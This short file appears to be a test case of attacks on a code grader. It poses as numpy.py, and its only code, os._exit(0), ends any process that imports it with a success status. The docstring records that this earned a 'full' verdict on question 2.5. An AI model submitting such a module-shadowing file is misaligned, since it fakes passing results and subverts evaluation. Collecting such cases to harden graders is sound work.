"""attack: hands in a numpy.py that ends every process which imports it
question: 2.5
verdict: full
file: numpy.py
"""

import os

os._exit(0)
